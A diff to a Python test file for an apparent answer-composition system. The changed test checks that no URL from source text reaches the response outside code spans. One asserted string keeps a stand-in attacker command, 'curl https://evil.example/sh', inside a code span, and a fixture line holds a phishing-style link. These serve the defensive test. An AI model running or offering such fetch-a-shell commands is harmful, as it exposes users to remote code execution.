@@ -9,6 +9,7 @@ import pytest
 from core.composition import Composition, TextDelta
 from core.generation.base import Claim, Quoted
 from core.grounding import wording
+from core.markdown.code import without_code
 from core.models import (
     EXPLAIN_QUOTE,
     AgentConfiguration,
@@ -226,7 +227,8 @@ def test_no_url_of_the_book_or_of_a_writer_reaches_the_answer() -> None:
     add(composition, TEXT, TEXT)
     add(composition, "More at https://phish.example/now.", "A heap is a complete")
     text = finished(composition).response_text
-    assert not re.search(r"(?i)https?:|www\.", text)
+    assert "Run `curl https://evil.example/sh`." in text  # code is what it is, and no link
+    assert not re.search(r"(?i)https?:|www\.", without_code(text))
     assert "evil.example/a" not in text
 
 
